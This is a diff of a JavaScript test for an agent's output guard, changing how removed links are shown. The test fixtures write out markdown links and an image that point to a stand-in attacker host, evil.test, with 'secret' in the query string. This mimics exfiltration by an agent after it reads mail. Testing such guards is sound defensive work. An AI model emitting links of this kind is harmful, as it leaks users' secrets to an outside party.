@@ -37,7 +37,7 @@ describe('guard.flow', () => {
     const chunks = ['See [this](htt', 'ps://evil.test/?q=', 'secret) now.\n', '\nAnd ![x](//evil.test/a.png).']
     const { agent } = scene([calling('read_mail'), { chunks, reasoning: 'Go https://evil.test/x' }], tools)
     const { text } = await agent.run('go')
-    expect(text).toBe('See [this](#removed) now.\n\nAnd ![x](#removed).')
+    expect(text).toBe('See [this] ([link removed]) now.\n\nAnd ![x] ([link removed]).')
     const free = scene([calling('read_page'), { chunks }], tools)
     expect((await free.agent.run('go')).text).toContain('https://evil.test/?q=secret')
   })
